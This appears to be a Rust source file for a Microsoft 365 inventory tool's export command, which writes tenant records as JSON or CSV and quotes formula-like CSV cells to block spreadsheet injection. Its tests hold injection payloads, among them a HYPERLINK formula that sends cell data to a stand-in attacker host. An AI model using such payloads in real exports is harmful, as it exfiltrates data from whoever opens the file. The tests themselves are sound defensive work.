//! `export`: the store's records as JSON or CSV on standard output, read a page at a time.
//!
//! Every CSV cell but the headers passes through [`csv_cell`], by way of [`CsvOut`], so that a
//! value from a tenant (a display name, a department, a phone number) is never read back by a
//! spreadsheet program as a formula or carries terminal escapes. JSON is written exactly as stored.

use std::borrow::Cow;
use std::collections::HashMap;
use std::io::Write;
use std::process::ExitCode;

use clap::{Args, ValueEnum};
use domain::TenantId;
use domain::devices::{DeviceRecord, ManagedDeviceRecord};
use serde_json::json;
use store::typed::TypedTable;
use store::{ContactFilter, ContactRow, Store};

use crate::UsageError;
use crate::commands::open_store;

#[derive(Clone, Copy, ValueEnum)]
pub enum What {
    Contacts,
    Organizations,
    Licenses,
    /// Live mailboxes with their size, quotas, archive and kind (user, shared, room, equipment).
    Mailboxes,
    /// Mailboxes deleted in the tenant, kept apart from contacts.
    DeletedMailboxes,
    /// Users a connection's filters leave out, each with the rule that did.
    FilteredUsers,
    Domains,
    ServiceHealth,
    ServiceMessages,
    Applications,
    TermsOfUse,
    Usage,
    /// Groups with their kind, flags, member count and members' names.
    Groups,
    /// One row per membership: the group, and the member named from its contact.
    GroupMembers,
    DirectoryRoles,
    ManagedDevices,
    DetectedApps,
    Devices,
    SignInActivity,
    /// Audit records, oldest first; `--since` and `--user` narrow them.
    Audit,
    ApiConnectors,
    /// Consolidated software: one row per product (or unmatched name) and version, per tenant.
    Software,
    /// The names each product (or unmatched name) was detected under: one row per product and
    /// name, per tenant.
    SoftwareNames,
    /// Licence waste findings, priced from the list M365SYNC_PRICES names, if any.
    LicenseWaste,
    /// Each tenant's snapshots: one row per snapshot and figure.
    Snapshots,
}

impl What {
    /// The inventory dataset this export reads, for the tenant-wide kinds.
    fn inventory(self) -> Option<domain::Dataset> {
        use domain::Dataset;
        match self {
            Self::Domains => Some(Dataset::Domains),
            Self::ServiceHealth => Some(Dataset::ServiceHealth),
            Self::ServiceMessages => Some(Dataset::ServiceMessages),
            Self::Applications => Some(Dataset::Applications),
            Self::TermsOfUse => Some(Dataset::TermsOfUse),
            Self::DirectoryRoles => Some(Dataset::DirectoryRoles),
            Self::DetectedApps => Some(Dataset::DetectedApps),
            Self::ApiConnectors => Some(Dataset::ApiConnectors),
            Self::Contacts
            | Self::Groups
            | Self::GroupMembers
            | Self::Organizations
            | Self::Licenses
            | Self::Mailboxes
            | Self::DeletedMailboxes
            | Self::FilteredUsers
            | Self::ManagedDevices
            | Self::Devices
            | Self::Usage
            | Self::SignInActivity
            | Self::Software
            | Self::SoftwareNames
            | Self::LicenseWaste
            | Self::Snapshots
            | Self::Audit => None,
        }
    }
}

#[derive(Clone, Copy, ValueEnum, PartialEq, Eq)]
pub enum Format {
    Json,
    Csv,
}

#[derive(Args)]
pub struct ExportArgs {
    /// What to write; each kind is described below.
    what: What,
    /// Only what this connection's tenant holds.
    #[arg(long)]
    connection: Option<String>,
    /// JSON (exact) or CSV (for a spreadsheet; formula-looking cells are quoted).
    #[arg(long, value_enum, default_value = "json")]
    format: Format,
    /// Include archived records (gone from the tenant).
    #[arg(long)]
    include_archived: bool,
    /// `audit` only: records created at or after this time, in UTC (2026-11-01 or
    /// 2026-11-01T08:00:00; a time with a zone is brought to UTC).
    #[arg(long, value_name = "TIME")]
    since: Option<String>,
    /// `audit` only: the records of this user (the user principal name, any case).
    #[arg(long, value_name = "UPN")]
    user: Option<String>,
}

/// A `--since` time as audit records write theirs: UTC, no zone.
fn audit_since(raw: &str) -> Result<String, UsageError> {
    use chrono::{DateTime, NaiveDate, NaiveDateTime, Utc};
    let raw = raw.trim();
    let form = "%Y-%m-%dT%H:%M:%S";
    if let Ok(day) = NaiveDate::parse_from_str(raw, "%Y-%m-%d") {
        return Ok(format!("{}T00:00:00", day.format("%Y-%m-%d")));
    }
    if let Ok(time) = NaiveDateTime::parse_from_str(raw, form) {
        return Ok(time.format(form).to_string());
    }
    if let Ok(time) = DateTime::parse_from_rfc3339(raw) {
        return Ok(time.with_timezone(&Utc).format(form).to_string());
    }
    Err(UsageError(format!(
        "--since '{raw}' is not a time; give a date such as 2026-11-01 or a UTC time such as 2026-11-01T08:00:00"
    )))
}

const AUDIT_COLUMNS: [&str; 14] = [
    "organization",
    "tenant_id",
    "id",
    "creation_time",
    "operation",
    "workload",
    "record_type",
    "user_id",
    "user_type",
    "client_ip",
    "result_status",
    "object_id",
    "content_type",
    "record",
];

/// An audit record as an export shows it: the columns of `AUDIT_COLUMNS`, the record whole.
fn audit_json(listed: &store::typed::ListedRow<domain::AuditRecord>) -> serde_json::Value {
    let r = &listed.row.record;
    json!({
        "organization": listed.organization,
        "tenant_id": listed.tenant_id,
        "id": r.id,
        "creation_time": r.creation_time,
        "operation": r.operation,
        "workload": r.workload,
        "record_type": r.record_type,
        "user_id": r.user_id,
        "user_type": r.user_type,
        "client_ip": r.client_ip,
        "result_status": r.result_status,
        "object_id": r.object_id,
        "content_type": r.content_type,
        "record": r.record,
    })
}

async fn export_audit(
    store: &store::Store,
    query: store::AuditQuery,
    format: Format,
    out: &mut impl Write,
) -> anyhow::Result<()> {
    let rows = store.audit_records(&query).await?;
    if format == Format::Csv {
        let mut csv = CsvOut::new(&mut *out);
        csv.header(AUDIT_COLUMNS)?;
        for listed in &rows {
            let item = audit_json(listed);
            csv.row(AUDIT_COLUMNS.iter().map(|column| match &item[*column] {
                serde_json::Value::Null => String::new(),
                serde_json::Value::String(text) => text.clone(),
                other => other.to_string(),
            }))?;
        }
        csv.flush()?;
    } else {
        let items: Vec<serde_json::Value> = rows.iter().map(audit_json).collect();
        serde_json::to_writer_pretty(&mut *out, &items)?;
        out.write_all(b"\n")?;
    }
    Ok(())
}

/// One CSV cell made safe to open in a spreadsheet program, after OWASP's advice on CSV injection:
///
/// - control characters (C0 such as NUL and ESC, DEL, and C1) are removed, except a newline or a
///   tab inside the cell: the csv writer quotes a cell holding a newline, and a tab is plain text
///   there (a carriage return is removed, so that a line break is always one `\n`);
/// - a cell that then starts with `=`, `+`, `-`, `@` or a tab (OWASP's list, whose carriage
///   return is gone by then), which spreadsheet programs may evaluate as a formula, gets a single
///   quote in front (`'=1+1`), which they show as text;
/// - except a plain negative number (`-5`, `-2.5`: a minus sign, digits, at most one decimal
///   point): every spreadsheet program reads it as a number literal, which can neither call nor
///   refer to anything, and quoting it would turn a number column (an over-assigned licence's
///   free units) into text.
pub fn csv_cell(value: &str) -> Cow<'_, str> {
    let kept = |c: &char| !c.is_control() || matches!(c, '\n' | '\t');
    let cleaned: Cow<'_, str> = if value.chars().all(|c| kept(&c)) {
        Cow::Borrowed(value)
    } else {
        Cow::Owned(value.chars().filter(kept).collect())
    };
    let formula = matches!(cleaned.chars().next(), Some('=' | '+' | '-' | '@' | '\t'));
    if formula && !is_plain_negative_number(&cleaned) {
        Cow::Owned(format!("'{cleaned}"))
    } else {
        cleaned
    }
}

/// `-` then digits, with at most one `.` between digits: `-5`, `-2.5`; not `-`, `-.5`, `-1e3`,
/// `-2+3`.
fn is_plain_negative_number(cell: &str) -> bool {
    let Some(number) = cell.strip_prefix('-') else {
        return false;
    };
    let digits = |part: &str| !part.is_empty() && part.bytes().all(|b| b.is_ascii_digit());
    match number.split_once('.') {
        Some((whole, fraction)) => digits(whole) && digits(fraction),
        None => digits(number),
    }
}

/// A CSV writer whose every data cell goes through [`csv_cell`]; headers are ours and go as
/// they are.
struct CsvOut<W: Write> {
    csv: csv::Writer<W>,
    header_written: bool,
}

impl<W: Write> CsvOut<W> {
    fn new(out: W) -> Self {
        Self {
            csv: csv::Writer::from_writer(out),
            header_written: false,
        }
    }

    fn header<I>(&mut self, names: I) -> csv::Result<()>
    where
        I: IntoIterator,
        I::Item: AsRef<[u8]>,
    {
        self.header_written = true;
        self.csv.write_record(names)
    }

    fn row<I>(&mut self, cells: I) -> csv::Result<()>
    where
        I: IntoIterator,
        I::Item: AsRef<str>,
    {
        self.csv.write_record(
            cells
                .into_iter()
                .map(|cell| csv_cell(cell.as_ref()).into_owned()),
        )
    }

    /// One serialised row, as `csv::Writer::serialize` would write it (its field names as the
    /// header before the first row), with each cell made safe. The row is serialised by csv
    /// itself and read back, so the cells are exactly the ones it would have written.
    fn serialize<T: serde::Serialize>(&mut self, row: &T) -> csv::Result<()> {
        let mut buffer = csv::WriterBuilder::new()
            .has_headers(!self.header_written)
            .from_writer(Vec::new());
        buffer.serialize(row)?;
        let bytes = buffer.into_inner().map_err(|e| e.into_error())?;
        let mut records = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice())
            .into_records();
        if !self.header_written
            && let Some(names) = records.next()
        {
            self.header(&names?)?;
        }
        for record in records {
            self.row(&record?)?;
        }
        Ok(())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        self.csv.flush()
    }
}

/// Flat rows as CSV (each cell made safe) or as a JSON list.
pub(crate) fn write_rows<T: serde::Serialize>(
    rows: &[T],
    format: Format,
    out: &mut impl Write,
) -> anyhow::Result<()> {
    if format == Format::Csv {
        let mut csv = CsvOut::new(&mut *out);
        for row in rows {
            csv.serialize(row)?;
        }
        csv.flush()?;
    } else {
        serde_json::to_writer_pretty(&mut *out, rows)?;
        out.write_all(b"\n")?;
    }
    Ok(())
}

/// What Microsoft 365 manages on a contact under its connection's mapping; nothing on a
/// contact kept by hand.
fn managed(c: &ContactRow, mappings: &HashMap<String, domain::FieldMapping>) -> Vec<String> {
    match &c.tenant_id {
        Some(tenant) => mappings
            .get(&tenant.to_lowercase())
            .cloned()
            .unwrap_or_default()
            .managed_by_microsoft_365(),
        None => Vec::new(),
    }
}

fn contact_json(c: &ContactRow, managed: &[String]) -> serde_json::Value {
    json!({
        "id": c.id,
        "object_id": c.object_id,
        "restorable_until": c.restorable_until.map(|ms| sync::day_of(ms / 1000)),
        "tenant_id": c.tenant_id,
        "organization": c.organization,
        "display_name": c.display_name,
        "given_name": c.given_name,
        "surname": c.surname,
        "email": c.email,
        "user_principal_name": c.user_principal_name,
        "job_title": c.job_title,
        "department": c.department,
        "office_location": c.office_location,
        "mobile_phone": c.mobile_phone,
        "business_phones": c.business_phones,
        "account_enabled": c.account_enabled,
        "user_type": c.user_type,
        "licenses": c.licenses,
        "license_names": c.license_names,
        "products": c.products,
        "usage": c.usage,
        "mailbox": c.mailbox.as_ref().map(|m| json!({
            "recipient_type": m.recipient_type,
            "storage_used_bytes": m.storage_used_bytes,
            "item_count": m.item_count,
            "prohibit_send_quota_bytes": m.prohibit_send_quota_bytes,
            "issue_warning_quota_bytes": m.issue_warning_quota_bytes,
            "prohibit_send_receive_quota_bytes": m.prohibit_send_receive_quota_bytes,
            "has_archive": m.has_archive,
            "last_activity_date": m.last_activity_date,
        })),
        "custom_fields": c.custom_fields,
        "managed_by_microsoft_365": managed,
        "archived": c.archived,
    })
}

const CONTACT_COLUMNS: [&str; 27] = [
    "id",
    "object_id",
    "tenant_id",
    "organization",
    "display_name",
    "given_name",
    "surname",
    "email",
    "user_principal_name",
    "job_title",
    "department",
    "office_location",
    "mobile_phone",
    "business_phones",
    "account_enabled",
    "user_type",
    "licenses",
    "license_names",
    "products",
    "mailbox_storage_used_bytes",
    "mailbox_item_count",
    "mailbox_prohibit_send_quota_bytes",
    "mailbox_last_activity_date",
    "custom_fields",
    "managed_by_microsoft_365",
    "archived",
    "restorable_until",
];

fn contact_csv(c: &ContactRow, managed: &[String]) -> Vec<String> {
    let opt = |v: &Option<String>| v.clone().unwrap_or_default();
    let num = |v: Option<i64>| v.map(|n| n.to_string()).unwrap_or_default();
    let mailbox = c.mailbox.as_ref();
    vec![
        c.id.to_string(),
        opt(&c.object_id),
        opt(&c.tenant_id),
        c.organization.clone(),
        c.display_name.clone(),
        opt(&c.given_name),
        opt(&c.surname),
        opt(&c.email),
        opt(&c.user_principal_name),
        opt(&c.job_title),
        opt(&c.department),
        opt(&c.office_location),
        opt(&c.mobile_phone),
        c.business_phones.join("; "),
        c.account_enabled.map(|b| b.to_string()).unwrap_or_default(),
        opt(&c.user_type),
        c.licenses.join("; "),
        c.license_names.join("; "),
        c.products.join("; "),
        num(mailbox.and_then(|m| m.storage_used_bytes)),
        num(mailbox.and_then(|m| m.item_count)),
        num(mailbox.and_then(|m| m.prohibit_send_quota_bytes)),
        mailbox
            .and_then(|m| m.last_activity_date.clone())
            .unwrap_or_default(),
        if c.custom_fields.is_empty() {
            String::new()
        } else {
            serde_json::to_string(&c.custom_fields).unwrap_or_default()
        },
        managed.join(";"),
        c.archived.to_string(),
        c.restorable_until
            .map(|ms| sync::day_of(ms / 1000))
            .unwrap_or_default(),
    ]
}

/// A typed dataset's rows: in CSV a column per field, in JSON an object per row with the same
/// fields under the same names. `key` names the column of the row's key.
async fn export_typed<R: TypedTable>(
    store: &Store,
    tenant_id: Option<&TenantId>,
    args: &ExportArgs,
    key: &str,
    out: &mut impl Write,
) -> anyhow::Result<()> {
    let rows = store
        .typed_rows::<R>(tenant_id, args.include_archived)
        .await?;
    let names: Vec<&str> = ["organization", "tenant_id", key]
        .into_iter()
        .chain(R::COLUMNS.iter().map(|(name, _)| *name))
        .chain(["archived"])
        .collect();
    if args.format == Format::Csv {
        let mut csv = CsvOut::new(&mut *out);
        csv.header(&names)?;
        for listed in &rows {
            let fields = listed.row.record.cells().into_iter().map(|c| c.to_text());
            csv.row(
                [
                    listed.organization.clone(),
                    listed.tenant_id.clone(),
                    listed.row.record.key().to_string(),
                ]
                .into_iter()
                .chain(fields)
                .chain([listed.row.archived.to_string()]),
            )?;
        }
        csv.flush()?;
    } else {
        let items: Vec<serde_json::Value> = rows
            .iter()
            .map(|listed| {
                let values = [
                    json!(listed.organization),
                    json!(listed.tenant_id),
                    json!(listed.row.record.key()),
                ]
                .into_iter()
                .chain(listed.row.record.cells().into_iter().map(|c| json!(c)))
                .chain([json!(listed.row.archived)]);
                serde_json::Value::Object(names.iter().map(|n| n.to_string()).zip(values).collect())
            })
            .collect();
        serde_json::to_writer_pretty(&mut *out, &items)?;
        out.write_all(b"\n")?;
    }
    Ok(())
}

const GROUP_COLUMNS: [&str; 15] = [
    "organization",
    "tenant_id",
    "id",
    "display_name",
    "kind",
    "description",
    "mail",
    "mail_enabled",
    "security_enabled",
    "group_types",
    "visibility",
    "created",
    "member_count",
    "member_names",
    "archived",
];

/// A member as a person reads it: the contact's name, else the object id with its type.
fn member_name(m: &store::GroupMemberRow) -> String {
    match (&m.display_name, &m.member_type) {
        (Some(name), _) => name.clone(),
        (None, Some(kind)) => format!("{} ({kind})", m.member_id),
        (None, None) => m.member_id.clone(),
    }
}

fn group_csv(g: &store::GroupRow, members: &[&store::GroupMemberRow]) -> Vec<String> {
    let opt = |v: &Option<String>| v.clone().unwrap_or_default();
    let flag = |v: Option<bool>| v.map(|b| b.to_string()).unwrap_or_default();
    let r = &g.group;
    vec![
        g.organization.clone(),
        g.tenant_id.clone(),
        r.object_id.clone(),
        opt(&r.display_name),
        r.kind().to_string(),
        opt(&r.description),
        opt(&r.mail),
        flag(r.mail_enabled),
        flag(r.security_enabled),
        r.group_types.join("; "),
        opt(&r.visibility),
        opt(&r.created),
        g.member_count.to_string(),
        members
            .iter()
            .map(|m| member_name(m))
            .collect::<Vec<_>>()
            .join("; "),
        g.archived.to_string(),
    ]
}

fn group_json(g: &store::GroupRow, members: &[&store::GroupMemberRow]) -> serde_json::Value {
    let r = &g.group;
    json!({
        "organization": g.organization,
        "tenant_id": g.tenant_id,
        "id": r.object_id,
        "display_name": r.display_name,
        "kind": r.kind(),
        "description": r.description,
        "mail": r.mail,
        "mail_enabled": r.mail_enabled,
        "security_enabled": r.security_enabled,
        "group_types": r.group_types,
        "visibility": r.visibility,
        "created": r.created,
        "member_count": g.member_count,
        "members": members.iter().map(|m| json!({
            "id": m.member_id,
            "type": m.member_type,
            "display_name": m.display_name,
            "user_principal_name": m.user_principal_name,
        })).collect::<Vec<_>>(),
        "archived": g.archived,
    })
}

pub async fn run(db: &str, args: ExportArgs) -> anyhow::Result<ExitCode> {
    let audit = matches!(args.what, What::Audit);
    for (option, given) in [("--since", &args.since), ("--user", &args.user)] {
        if given.is_some() && !audit {
            return Err(UsageError(format!("{option} applies to `export audit` only")).into());
        }
    }
    let since = args.since.as_deref().map(audit_since).transpose()?;
    let store = open_store(db).await?;
    let tenant_id = match &args.connection {
        Some(name) => Some(
            store
                .connection(name)
                .await?
                .ok_or_else(|| sync::SyncError::NoConnection(name.clone()))?
                .tenant_id,
        ),
        None => None,
    };
    let mut out = std::io::BufWriter::new(crate::output::stdout());
    if audit {
        let query = store::AuditQuery {
            tenant_id,
            since,
            user: args.user.clone(),
        };
        export_audit(&store, query, args.format, &mut out).await?;
        out.flush()?;
        return Ok(ExitCode::SUCCESS);
    }
    if let Some(dataset) = args.what.inventory() {
        let rows = store
            .inventory(tenant_id.as_ref(), dataset, args.include_archived)
            .await?;
        if args.format == Format::Csv {
            // The document's fields differ per dataset: CSV carries the shared columns and the
            // whole document as JSON, which spreadsheet tools can split further.
            let mut csv = CsvOut::new(&mut out);
            csv.header([
                "organization",
                "tenant_id",
                "key",
                "name",
                "archived",
                "document",
            ])?;
            for row in &rows {
                csv.row([
                    row.organization.clone(),
                    row.tenant_id.clone(),
                    row.key.clone(),
                    row.name.clone(),
                    row.archived.to_string(),
                    row.document.to_string(),
                ])?;
            }
            csv.flush()?;
        } else {
            let items: Vec<serde_json::Value> = rows
                .iter()
                .map(|row| {
                    let mut item = json!({ "organization": row.organization, "tenant_id": row.tenant_id, "key": row.key, "name": row.name, "archived": row.archived });
                    if let (Some(target), serde_json::Value::Object(fields)) = (item.as_object_mut(), &row.document) {
                        for (k, v) in fields {
                            target.entry(k.clone()).or_insert_with(|| v.clone());
                        }
                    }
                    item
                })
                .collect();
            serde_json::to_writer_pretty(&mut out, &items)?;
            out.write_all(b"\n")?;
        }
        out.flush()?;
        return Ok(ExitCode::SUCCESS);
    }
    let typed = match args.what {
        What::ManagedDevices => Some(
            export_typed::<ManagedDeviceRecord>(&store, tenant_id.as_ref(), &args, "id", &mut out)
                .await,
        ),
        What::Devices => Some(
            export_typed::<DeviceRecord>(&store, tenant_id.as_ref(), &args, "id", &mut out).await,
        ),
        What::Usage => Some(
            export_typed::<domain::usage::UsageRecord>(
                &store,
                tenant_id.as_ref(),
                &args,
                "key",
                &mut out,
            )
            .await,
        ),
        What::SignInActivity => Some(
            export_typed::<domain::usage::SignInRecord>(
                &store,
                tenant_id.as_ref(),
                &args,
                "key",
                &mut out,
            )
            .await,
        ),
        _ => None,
    };
    if let Some(done) = typed {
        done?;
        out.flush()?;
        return Ok(ExitCode::SUCCESS);
    }
    let insight = match args.what {
        What::Software => Some(crate::insight::export::Kind::Software),
        What::SoftwareNames => Some(crate::insight::export::Kind::SoftwareNames),
        What::LicenseWaste => Some(crate::insight::export::Kind::LicenseWaste),
        What::Snapshots => Some(crate::insight::export::Kind::Snapshots),
        _ => None,
    };
    if let Some(kind) = insight {
        use crate::insight::export::Rows;
        match crate::insight::export::rows(&store, kind, tenant_id.as_ref()).await? {
            Rows::Software(rows) => write_rows(&rows, args.format, &mut out)?,
            Rows::SoftwareNames(rows) => write_rows(&rows, args.format, &mut out)?,
            Rows::LicenseWaste(rows) => write_rows(&rows, args.format, &mut out)?,
            Rows::Snapshots(rows) => write_rows(&rows, args.format, &mut out)?,
        }
        out.flush()?;
        return Ok(ExitCode::SUCCESS);
    }
    if matches!(args.what, What::FilteredUsers) {
        let rows = store.filtered_users(tenant_id.as_ref()).await?;
        if args.format == Format::Csv {
            let mut csv = CsvOut::new(&mut out);
            for row in &rows {
                csv.serialize(row)?;
            }
            csv.flush()?;
        } else {
            serde_json::to_writer_pretty(&mut out, &rows)?;
            out.write_all(b"\n")?;
        }
        out.flush()?;
        return Ok(ExitCode::SUCCESS);
    }
    if let Some(kind) = match args.what {
        What::Mailboxes => Some(store::MailboxKind::Live),
        What::DeletedMailboxes => Some(store::MailboxKind::Deleted),
        _ => None,
    } {
        let rows = store
            .mailboxes(tenant_id.as_ref(), kind, args.include_archived)
            .await?;
        if args.format == Format::Csv {
            let mut csv = CsvOut::new(&mut out);
            for row in &rows {
                csv.serialize(row)?;
            }
            csv.flush()?;
        } else {
            serde_json::to_writer_pretty(&mut out, &rows)?;
            out.write_all(b"\n")?;
        }
        out.flush()?;
        return Ok(ExitCode::SUCCESS);
    }
    match args.what {
        What::Mailboxes
        | What::DeletedMailboxes
        | What::FilteredUsers
        | What::ManagedDevices
        | What::Devices
        | What::ApiConnectors
        | What::Software
        | What::SoftwareNames
        | What::LicenseWaste
        | What::Snapshots => {}
        What::Groups => {
            let groups = store
                .groups(tenant_id.as_ref(), args.include_archived)
                .await?;
            let members = store
                .group_members(tenant_id.as_ref(), args.include_archived)
                .await?;
            let mut by_group: HashMap<(String, String), Vec<&store::GroupMemberRow>> =
                HashMap::new();
            for m in &members {
                by_group
                    .entry((m.tenant_id.clone(), m.group_id.clone()))
                    .or_default()
                    .push(m);
            }
            let no_members = Vec::new();
            let members_of = |g: &store::GroupRow| {
                by_group
                    .get(&(g.tenant_id.clone(), g.key().to_string()))
                    .unwrap_or(&no_members)
            };
            if args.format == Format::Csv {
                let mut csv = CsvOut::new(&mut out);
                csv.header(GROUP_COLUMNS)?;
                for g in &groups {
                    csv.row(group_csv(g, members_of(g)))?;
                }
                csv.flush()?;
            } else {
                let items: Vec<serde_json::Value> = groups
                    .iter()
                    .map(|g| group_json(g, members_of(g)))
                    .collect();
                serde_json::to_writer_pretty(&mut out, &items)?;
                out.write_all(b"\n")?;
            }
        }
        What::GroupMembers => {
            let rows = store
                .group_members(tenant_id.as_ref(), args.include_archived)
                .await?;
            if args.format == Format::Csv {
                let mut csv = CsvOut::new(&mut out);
                for row in &rows {
                    csv.serialize(row)?;
                }
                csv.flush()?;
            } else {
                serde_json::to_writer_pretty(&mut out, &rows)?;
                out.write_all(b"\n")?;
            }
        }
        What::Domains
        | What::ServiceHealth
        | What::ServiceMessages
        | What::Applications
        | What::TermsOfUse
        | What::Usage
        | What::DirectoryRoles
        | What::DetectedApps
        | What::SignInActivity
        | What::Audit => {}
        What::Contacts => {
            let mappings = store.field_mappings().await?;
            let filter = ContactFilter {
                tenant_id,
                include_archived: args.include_archived,
                ..ContactFilter::default()
            };
            if args.format == Format::Csv {
                let mut csv = CsvOut::new(&mut out);
                csv.header(CONTACT_COLUMNS)?;
                let mut failed: Option<csv::Error> = None;
                store
                    .each_contact(&filter, |c| {
                        if failed.is_none() {
                            failed = csv.row(contact_csv(&c, &managed(&c, &mappings))).err();
                        }
                        Ok(())
                    })
                    .await?;
                if let Some(e) = failed {
                    return Err(e.into());
                }
                csv.flush()?;
            } else {
                // Written as it is read: an export of a large tenant never sits whole in memory.
                out.write_all(b"[")?;
                let mut first = true;
                let mut failed: Option<std::io::Error> = None;
                store
                    .each_contact(&filter, |c| {
                        if failed.is_some() {
                            return Ok(());
                        }
                        let separator: &[u8] = if first { b"\n  " } else { b",\n  " };
                        first = false;
                        let text = contact_json(&c, &managed(&c, &mappings)).to_string();
                        failed = out
                            .write_all(separator)
                            .and_then(|_| out.write_all(text.as_bytes()))
                            .err();
                        Ok(())
                    })
                    .await?;
                if let Some(e) = failed {
                    return Err(e.into());
                }
                out.write_all(if first { b"]\n" } else { b"\n]\n" })?;
            }
        }
        What::Organizations => {
            let mut orgs = store.organizations().await?;
            if let Some(t) = tenant_id {
                // The tenant's organisation, which may be another tenant's too.
                let tenant = t.to_string();
                let linked = store.tenant(&tenant).await?.and_then(|t| t.organization_id);
                orgs.retain(|o| Some(o.id) == linked || o.tenant_id.as_deref() == Some(&tenant));
            }
            if !args.include_archived {
                orgs.retain(|o| !o.archived);
            }
            if args.format == Format::Csv {
                let mut csv = CsvOut::new(&mut out);
                csv.header([
                    "id",
                    "name",
                    "tenant_id",
                    "tenant_name",
                    "verified_domains",
                    "default_domain",
                    "country",
                    "contacts",
                    "archived",
                ])?;
                for o in &orgs {
                    csv.row([
                        o.id.to_string(),
                        o.name.clone(),
                        o.tenant_id.clone().unwrap_or_default(),
                        o.tenant_name.clone().unwrap_or_default(),
                        o.verified_domains.join("; "),
                        o.default_domain.clone().unwrap_or_default(),
                        o.country.clone().unwrap_or_default(),
                        o.contacts.to_string(),
                        o.archived.to_string(),
                    ])?;
                }
                csv.flush()?;
            } else {
                serde_json::to_writer_pretty(&mut out, &orgs)?;
                out.write_all(b"\n")?;
            }
        }
        What::Licenses => {
            let licenses = store
                .licenses(tenant_id.as_ref(), args.include_archived)
                .await?;
            if args.format == Format::Csv {
                let mut csv = CsvOut::new(&mut out);
                csv.header([
                    "organization",
                    "tenant_id",
                    "sku_id",
                    "sku_part_number",
                    "name",
                    "in_catalogue",
                    "capability_status",
                    "enabled_units",
                    "consumed_units",
                    "free_units",
                    "suspended_units",
                    "warning_units",
                    "service_plans",
                    "archived",
                ])?;
                for l in &licenses {
                    csv.row([
                        l.organization.clone(),
                        l.tenant_id.clone(),
                        l.sku_id.clone(),
                        l.sku_part_number.clone(),
                        l.name.clone(),
                        l.in_catalogue.to_string(),
                        l.capability_status.clone(),
                        l.enabled_units.to_string(),
                        l.consumed_units.to_string(),
                        l.free_units.to_string(),
                        l.suspended_units.to_string(),
                        l.warning_units.to_string(),
                        l.service_plans.join("; "),
                        l.archived.to_string(),
                    ])?;
                }
                csv.flush()?;
            } else {
                serde_json::to_writer_pretty(&mut out, &licenses)?;
                out.write_all(b"\n")?;
            }
        }
    }
    out.flush()?;
    Ok(ExitCode::SUCCESS)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cell_that_could_be_a_formula_is_quoted() {
        let cases = [
            (
                r#"=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
                r#"'=HYPERLINK("http://evil.example/?x="&A1,"Click")"#,
            ),
            ("-2+3", "'-2+3"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            ("+44 20 7946 0000", "'+44 20 7946 0000"),
            ("\tcmd", "'\tcmd"),
            ("-", "'-"),
            ("-.5", "'-.5"),
            ("-5.", "'-5."),
            ("-1e3", "'-1e3"),
            ("-1-1", "'-1-1"),
            ("--5", "'--5"),
            ("-2.5.1", "'-2.5.1"),
            // A control character cannot hide a formula behind it.
            ("\u{1b}=1+1", "'=1+1"),
            ("\r=1+1", "'=1+1"),
            ("\0@x", "'@x"),
        ];
        for (value, expected) in cases {
            assert_eq!(csv_cell(value), expected, "{value:?}");
        }
    }

    #[test]
    fn plain_text_and_plain_numbers_stay_as_they_are() {
        for value in [
            "",
            "Adele Vance",
            "Sales & Marketing",
            "a=b",
            "x-1",
            "'quoted already",
            " =1+1",
            "5",
            "-5",
            "-2.5",
            "-0",
            "true",
            "{\"id\":\"-1\"}",
            "line one\nline two",
            "tab\tinside",
            "Zoë Łukasz 東京",
        ] {
            assert!(
                matches!(csv_cell(value), Cow::Borrowed(v) if v == value),
                "{value:?}"
            );
        }
    }

    #[test]
    fn control_characters_are_removed_but_newline_and_tab_inside_stay() {
        let cases = [
            ("a\u{1b}[31mred\u{1b}[0m", "a[31mred[0m"),
            ("nul\0byte", "nulbyte"),
            ("bell\u{7}", "bell"),
            ("del\u{7f}", "del"),
            ("c1\u{9b}31m\u{85}", "c131m"),
            ("crlf\r\nline", "crlf\nline"),
            ("cr\ronly", "cronly"),
            ("keep\nand\tkeep", "keep\nand\tkeep"),
        ];
        for (value, expected) in cases {
            assert_eq!(csv_cell(value), expected, "{value:?}");
        }
    }

    #[test]
    fn a_serialised_row_is_written_as_csv_would_with_safe_cells() {
        #[derive(serde::Serialize)]
        struct Row {
            name: String,
            size: Option<i64>,
            free: i64,
            shared: Option<bool>,
        }
        let rows = [
            Row {
                name: "=1+1".into(),
                size: Some(5),
                free: -2,
                shared: None,
            },
            Row {
                name: "Room, 2nd \"floor\"\u{1b}".into(),
                size: None,
                free: 3,
                shared: Some(true),
            },
        ];
        let mut safe = CsvOut::new(Vec::new());
        for row in &rows {
            safe.serialize(row).unwrap();
        }
        safe.flush().unwrap();
        let written = String::from_utf8(safe.csv.into_inner().unwrap()).unwrap();
        assert_eq!(
            written,
            "name,size,free,shared\n'=1+1,5,-2,\n\"Room, 2nd \"\"floor\"\"\",,3,true\n"
        );
    }
}
